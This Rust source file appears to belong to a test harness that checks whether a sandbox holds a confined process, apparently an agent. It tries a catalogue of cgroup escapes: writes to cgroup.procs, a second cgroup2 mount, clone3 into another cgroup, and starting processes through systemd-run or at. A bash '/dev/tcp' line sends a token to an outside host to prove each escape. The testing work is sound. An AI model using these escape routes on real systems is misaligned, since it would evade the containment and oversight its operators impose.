//! Leaving the cgroup: by file, by clone, or by having a service start something outside.

use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::OwnedFd;
use std::path::Path;
use std::process::{Command, Stdio};

use nix::mount::MsFlags;

use super::arena::{Arena, connect_and_deliver, ports, tcp};
use super::attempt::{Attempt, Bare, Closer, Legacy, Need};
use super::outcome::Claim;
use crate::sys::raw::{self, During, Stopped};

const BY_TASK: &[Closer] = &[Closer::Lsm, Closer::Unit];

pub(super) const ATTEMPTS: &[Attempt] = &[
    Attempt::escape("leave-by-procs", "writes itself into another cgroup's cgroup.procs", BY_TASK, |arena| {
        enter(&arena.outside_cgroup.join("cgroup.procs"))?;
        connect_outside(arena)
    })
    .bare(Bare::RootOnly),
    Attempt::escape(
        "leave-by-threads",
        "writes its thread into another cgroup's cgroup.threads",
        BY_TASK,
        |arena| {
            enter(&arena.outside_cgroup.join("cgroup.threads"))?;
            connect_outside(arena)
        },
    )
    // Threads may part only below a threaded cgroup.
    .bare(Bare::Nobody),
    Attempt::escape("leave-to-parent", "writes itself into the cgroup above", BY_TASK, |arena| {
        let above = arena.agent_cgroup.parent().unwrap_or(&arena.agent_cgroup);
        enter(&above.join("cgroup.procs"))?;
        connect_outside(arena)
    })
    // A parent that distributes resources holds no processes.
    .bare(Bare::SomeHosts),
    Attempt::escape("leave-by-new-cgroup", "makes a cgroup outside and moves there", BY_TASK, |arena| {
        let made = arena.outside_cgroup.join(&arena.token);
        fs::create_dir(&made).during("mkdir")?;
        let left = enter(&made.join("cgroup.procs")).and_then(|()| connect_outside(arena));
        // Without going back the new cgroup could not be removed; where that is refused, nothing was entered.
        let _ = enter(&arena.outside_cgroup.join("cgroup.procs"));
        fs::remove_dir(&made).during("rmdir")?;
        left
    })
    .bare(Bare::RootOnly),
    Attempt::escape(
        "leave-by-second-mount",
        "mounts the hierarchy again and moves there",
        BY_TASK,
        second_mount,
    )
    .bare(Bare::RootOnly),
    Attempt::escape("leave-by-cgroup-namespace", "makes a cgroup namespace, then moves", BY_TASK, |arena| {
        nix::sched::unshare(nix::sched::CloneFlags::CLONE_NEWCGROUP).during("unshare")?;
        enter(&arena.outside_cgroup.join("cgroup.procs"))?;
        connect_outside(arena)
    })
    .bare(Bare::RootOnly),
    Attempt::escape(
        "leave-by-inherited-procs",
        "writes to a cgroup.procs that its parent left open",
        BY_TASK,
        |arena| {
            let procs = arena.inherited(Legacy::OutsideProcs)?;
            File::from(procs).write_all(b"0").during("write")?;
            connect_outside(arena)
        },
    )
    // The kernel judges such a write by who opened the file.
    .needs(&[Need::Inherited(Legacy::OutsideProcs)]),
    Attempt::escape("clone-into-cgroup", "has a child born in another cgroup", BY_TASK, |arena| {
        born_outside(arena, &File::open(&arena.outside_cgroup).during("open")?.into())
    })
    .bare(Bare::RootOnly),
    Attempt::escape(
        "clone-into-inherited-cgroup",
        "has a child born in a cgroup whose folder its parent left open",
        BY_TASK,
        |arena| born_outside(arena, &arena.inherited(Legacy::OutsideCgroup)?),
    )
    .bare(Bare::RootOnly)
    .needs(&[Need::Inherited(Legacy::OutsideCgroup)]),
    service("systemd-run-user", "has its own service manager start a process", |arena| {
        start_elsewhere(arena, "systemd-run", &["--user", "--quiet", "--collect", "--wait"])
    }),
    service("systemd-run-system", "has the system's service manager start a process", |arena| {
        start_elsewhere(arena, "systemd-run", &["--quiet", "--collect", "--wait", "--no-ask-password"])
    }),
    service("systemd-run-scope", "has the service manager put its child into a scope", |arena| {
        start_elsewhere(arena, "systemd-run", &["--user", "--quiet", "--collect", "--scope"])
    }),
    service("at-job", "leaves a job for the at daemon", |arena| {
        let Some(script) = reach_script(arena) else { return Claim::unavailable("no /bin/bash") };
        let input = format!("/bin/bash -c '{script}'\n");
        run_with_input(Command::new("/usr/bin/at").arg("now"), &input)
    }),
];

/// Depends on services that may not run here.
const fn service(
    name: &'static str,
    vector: &'static str,
    run: fn(&Arena) -> Result<Claim, Stopped>,
) -> Attempt {
    Attempt::escape(name, vector, BY_TASK, run).bare(Bare::SomeHosts)
}

/// Moves this process by writing to a cgroup.procs file.
fn enter(procs: &Path) -> Result<(), Stopped> {
    let mut file = OpenOptions::new().write(true).open(procs).during("open")?;
    file.write_all(b"0").during("write")
}

/// A connection that only somebody outside the cgroup can make.
fn connect_outside(arena: &Arena) -> Result<Claim, Stopped> {
    connect_and_deliver(arena, tcp(libc::AF_INET)?, &arena.world4(ports::PLAIN))
}

fn born_outside(arena: &Arena, directory: &OwnedFd) -> Result<Claim, Stopped> {
    let answer = raw::clone_into_cgroup(directory, || {
        let claim = connect_outside(arena).unwrap_or_else(Claim::Refused);
        serde_json::to_string(&claim).unwrap_or_default()
    })?;
    serde_json::from_str(&answer).map_err(|_| Stopped::at("clone3", libc::ECHILD))
}

fn second_mount(arena: &Arena) -> Result<Claim, Stopped> {
    // In a mount namespace of its own, so that the mount vanishes with the attempt.
    nix::sched::unshare(nix::sched::CloneFlags::CLONE_NEWNS).during("unshare")?;
    let private = MsFlags::MS_REC | MsFlags::MS_PRIVATE;
    nix::mount::mount(None::<&str>, "/", None::<&str>, private, None::<&str>).during("mount")?;
    let place = Path::new("/tmp");
    nix::mount::mount(Some("none"), place, Some("cgroup2"), MsFlags::empty(), None::<&str>)
        .during("mount")?;
    enter(&place.join("cgroup.procs"))?;
    connect_outside(arena)
}

/// What the started process does: bash opens a TCP connection by itself, and the tokens of a service manager's
/// child are what the world then sees.
fn reach_script(arena: &Arena) -> Option<String> {
    let (world, port, token) = (arena.world.v4, ports::PLAIN, &arena.token);
    Path::new("/bin/bash").exists().then(|| format!("echo {token} > /dev/tcp/{world}/{port}"))
}

fn start_elsewhere(arena: &Arena, tool: &str, options: &[&str]) -> Result<Claim, Stopped> {
    let Some(script) = reach_script(arena) else { return Claim::unavailable("no /bin/bash") };
    let runtime = format!("/run/user/{}", nix::unistd::getuid());
    let mut command = Command::new(format!("/usr/bin/{tool}"));
    command.args(options).args(["/bin/bash", "-c", &script]).env("XDG_RUNTIME_DIR", runtime);
    run_with_input(&mut command, "")
}

/// A tool that is missing, or whose service does not run here, makes the attempt impossible rather than refused.
fn run_with_input(command: &mut Command, input: &str) -> Result<Claim, Stopped> {
    let mut child = match command.stdin(Stdio::piped()).stdout(Stdio::null()).stderr(Stdio::piped()).spawn() {
        Err(error) if error.kind() == std::io::ErrorKind::NotFound => {
            return Claim::unavailable("not installed");
        }
        spawned => spawned.during("exec")?,
    };
    if let Some(mut stdin) = child.stdin.take() {
        stdin.write_all(input.as_bytes()).during("write")?;
    }
    let ended = child.wait_with_output().during("wait")?;
    let said = String::from_utf8_lossy(&ended.stderr);
    if ended.status.success() {
        return Ok(Claim::Sent);
    }
    if said.contains("not permitted") || said.contains("ermission denied") || said.contains("ccess denied") {
        return Err(Stopped::at("the service", libc::EPERM));
    }
    Claim::unavailable(said.lines().next().unwrap_or("the tool failed").to_owned())
}
